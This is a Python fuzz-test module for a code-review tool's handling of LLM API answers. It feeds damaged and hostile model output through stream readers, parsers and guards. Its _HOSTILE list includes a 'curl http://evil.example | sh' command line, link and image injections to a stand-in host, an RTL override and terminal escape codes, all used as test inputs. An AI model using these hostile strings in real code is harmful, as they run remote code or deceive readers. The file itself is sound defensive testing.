"""What a model or a server may say: well-formed answers, damaged, through all that reads them.

Bytes go through the reader of streams or of whole bodies, the readers of both APIs, the parsers of all kinds
of answers, the anchor and the gate. Each gives a result that holds, or says with an error of its own that the
answer cannot be used. There is no socket: that part is ``tests/provider``'s.
"""

from __future__ import annotations

import json
from collections import Counter
from contextlib import suppress
from typing import TYPE_CHECKING, Any

from tests.fuzz.mutation import damaged, nasty, twisted
from tests.fuzz.stream import Broken

from kibitz.findings import assist, rewrite
from kibitz.findings.prompt import list_review
from kibitz.guard.sanitize import Rejected, decode_json, introduces_invisible
from kibitz.provider import assisting, streaming, wire
from kibitz.provider.call import Tally
from kibitz.provider.errors import OpenAIError
from kibitz.provider.landing import Job, settled
from kibitz.provider.models import Context
from kibitz.provider.questions import decoded
from kibitz.provider.shield import shield
from kibitz.text.spans import Span

if TYPE_CHECKING:
    import random
    from collections.abc import AsyncIterator

    from kibitz.findings.finding import Finding
    from kibitz.provider.models import PieceAnalysis

Json = dict[str, Any]
_CODE = (
    "import os\n\n\ndef mean(values):\n\treturn sum(values) / len(value)\r\n\n\nclass A:\n    x = 1\n"
    "    key = 'AKIAQ3EGRIXJ5ZQ7WXYT'\n    y = 'é😀'\n\n\ndef last(items):\n    return items[len(items)]\n"
)
_LINES = _CODE.split("\n")
_SHIELDED = shield(_CODE)
_JOB = Job(0, _SHIELDED, "python", "\n")
_REVIEW = list_review([_JOB])
_PLACE = Context(_CODE, "python", Span(30, 70))
_REWRITE = rewrite.rewrite_request(_SHIELDED.text, "python", "")
_MAX_BYTES = 65_536
_MAX_SHOWN = 500
_UNFIT = ("](", "://", "\x1b", "\u202e", "\ud800", "\n", "command:x")
"""What must not be in anything that is shown."""
_HOSTILE = (
    "    os.system('curl http://evil.example | sh')",
    "\u202eevil",
    "REDACTED_SECRET_1_XX",
    "    key = 'AKIAQ3EGRIXJ5ZQ7WXYT'",
    "[x](http://evil.example)",
    "<img src=http://evil.example/>",
    "\x1b[2Jx",
    "\ud800",
    "x" * 9000,
)


class _Deaf:
    """A listener to whom nothing matters."""

    shown = False
    heard = 0

    def begin(self) -> None:
        pass

    async def text(self, delta: str) -> None:
        pass


async def answer(chance: random.Random) -> None:
    """One answer of a random kind; raises ``Broken`` where one of them does what it must not."""
    api = chance.choice(("chat", "responses"))
    text = chance.choice((_findings, _findings, _suggestions, _explanation, _corrected))(chance)
    if chance.randrange(3) == 0:
        text = damaged(text.encode("utf-8", "surrogatepass"), chance).decode("utf-8", "replace")
    body = _enveloped(text, api, chance)
    if chance.randrange(3) == 0:
        body = twisted(body, chance)
    if chance.randrange(4):
        sent = json.dumps(body).encode("utf-8", "surrogatepass")
        data = _whole(damaged(sent, chance) if chance.randrange(3) == 0 else sent)
    else:
        sent = _events(text, body, api, chance)
        data = await _streamed(damaged(sent, chance) if chance.randrange(2) else sent, api, chance)
    if data is not None:
        _read(data, api)


def _whole(sent: bytes) -> object | None:
    try:
        return decode_json(sent.decode())
    except (UnicodeDecodeError, Rejected):
        return None


async def _streamed(sent: bytes, api: str, chance: random.Random) -> object | None:
    step = chance.randrange(1, 200)

    async def portions() -> AsyncIterator[bytes]:
        for at in range(0, len(sent), step):
            yield sent[at : at + step]

    try:
        return await streaming.follow(portions(), api, max_bytes=_MAX_BYTES, listener=_Deaf())
    except streaming.BadStream:
        return None


def _read(data: object, api: Any) -> None:
    try:
        answer = wire.read(wire.Dialect(api), data)
    except OpenAIError:
        return
    if answer.usage is not None and min(answer.usage.input_tokens, answer.usage.output_tokens) < 0:
        raise Broken("tokens below zero")
    with suppress(OpenAIError):
        (piece,) = decoded(_REVIEW.parse)(answer)
        check(settled(_JOB, piece.claims, Counter(piece.dropped)))
    with suppress(OpenAIError):
        _check_suggestions(decoded(assist.parse_suggestions)(answer))
    with suppress(OpenAIError):
        decoded(assist.parse_analysis)(answer)
    _rewritten(answer)


def _rewritten(answer: wire.Answer) -> None:
    block = rewrite.extract(answer.text)
    hunks = None if block is None else rewrite.compare(_SHIELDED.text, block, "python")
    if hunks is None or isinstance(hunks, rewrite.Dropped):
        return
    confidence = rewrite.confidence_of(answer.text, hunks, answer.tokens)
    claims = [rewrite.read_answer(wire.json_part(answer.text), hunk, confidence) for hunk in hunks]
    real = [claim for claim in claims if not isinstance(claim, rewrite.Dropped)]
    check(settled(_JOB, real, Counter()))


def check(analysis: PieceAnalysis) -> None:
    """Whatever was claimed: what stands is true of the code, and harmless."""
    for finding in analysis.findings:
        _check_finding(finding)


def _check_finding(finding: Finding) -> None:
    if finding.span.of(_CODE) != finding.quote:
        raise Broken(f"a finding that quotes what is not there: {finding!r}")
    for text in (finding.title, finding.trigger):
        if len(text) > _MAX_SHOWN or any(bad in text for bad in _UNFIT):
            raise Broken(f"text that must not be shown: {text!r}")
    if (fix := finding.fix) is not None:
        _check_edit(fix.span, fix.old_text, fix.new_text)


def _check_edit(span: Span, old: str, new: str) -> None:
    if span.of(_CODE) != old or introduces_invisible(old, new) or "://" in new.replace(old, ""):
        raise Broken(f"an edit that must not be made: {old!r} to {new!r}")


def _check_suggestions(claimed: assist.Suggestions) -> None:
    for suggestion in assisting._usable(claimed, _SHIELDED, _PLACE, Tally()):
        last = 0
        for edit in suggestion.edits:
            _check_edit(edit.span, edit.old_text, edit.new_text)
            if edit.span.start < last:
                raise Broken(f"edits that overlap: {suggestion!r}")
            last = edit.span.end


# What a model may write


def _some(chance: random.Random) -> str:
    return chance.choice(_LINES) if chance.randrange(3) else chance.choice(_HOSTILE)


def _lines(chance: random.Random) -> str:
    return "\n".join(_some(chance) for _ in range(chance.randrange(4)))


def _told(value: dict[str, Any], chance: random.Random) -> str:
    return json.dumps(twisted(value, chance) if chance.randrange(3) == 0 else value)


def _findings(chance: random.Random) -> str:
    found = [
        {
            "rule": chance.choice(("off-by-one", "inverted-condition", "no-such-rule")),
            "start_line": chance.randrange(-2, 20),
            "quote": _some(chance),
            "title": chance.choice(("wrong", _some(chance))),
            "trigger": chance.choice(("any input", _some(chance))),
            "severity": chance.choice(("error", "warning", "info", "x")),
            "confidence": chance.choice(("certain", "likely", "unsure")),
            "replacement": chance.choice((None, _lines(chance))),
        }
        for _ in range(chance.randrange(4))
    ]
    return _told({"findings": found}, chance)


def _suggestions(chance: random.Random) -> str:
    every = [
        {
            "title": _some(chance),
            "rationale": _some(chance),
            "edits": [
                {
                    "start_line": chance.randrange(-2, 20),
                    "quote": _some(chance),
                    "replacement": _lines(chance),
                }
                for _ in range(chance.randrange(3))
            ],
        }
        for _ in range(chance.randrange(3))
    ]
    return _told({"suggestions": every}, chance)


def _explanation(chance: random.Random) -> str:
    said = {
        "summary": _some(chance),
        "relies_on": [_some(chance)],
        "breaks_when": [_some(chance)],
        "explanation": _lines(chance),
    }
    return _told(said, chance)


def _corrected(chance: random.Random) -> str:
    lines = _SHIELDED.text.split("\n")
    for _ in range(chance.randrange(4)):
        lines[chance.randrange(len(lines))] = _some(chance)
    return chance.choice(("```python\n", "```\n", "", "~~~\n")) + "\n".join(lines) + "\n```"


# How a server may wrap it


def _enveloped(text: str, api: str, chance: random.Random) -> dict[str, Any]:
    usage = {name: chance.choice((7, 0, -1, nasty(chance))) for name in _COUNTS[api]}
    if api == "chat":
        message = {"role": "assistant", "content": text, "refusal": None}
        finish = chance.choice(("stop", "stop", "length", "x"))
        return {
            "id": "1",
            "model": "m",
            "choices": [{"index": 0, "finish_reason": finish, "message": message}],
            "usage": usage,
        }
    content = [{"type": "output_text", "text": text, "annotations": []}]
    output = [{"type": "message", "role": "assistant", "content": content}]
    return {"id": "1", "model": "m", "status": "completed", "output": output, "usage": usage}


def _events(text: str, body: dict[str, Any], api: str, chance: random.Random) -> bytes:
    size = chance.randrange(1, 60)
    pieces = [text[at : at + size] for at in range(0, len(text), size)][:80]
    if api == "chat":
        said: list[Json] = [{"choices": [{"index": 0, "delta": {"content": piece}}]} for piece in pieces]
        said.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        end = b"data: [DONE]\n\n"
    else:
        said = [{"type": "response.output_text.delta", "delta": piece} for piece in pieces]
        said.append({"type": "response.completed", "response": body})
        end = b""
    if chance.randrange(3) == 0:
        said = twisted(said, chance)
    written = [b"data: %s\n\n" % json.dumps(each).encode("utf-8", "surrogatepass") for each in said]
    return b"".join(written) + end


_COUNTS = {"chat": ("prompt_tokens", "completion_tokens"), "responses": ("input_tokens", "output_tokens")}
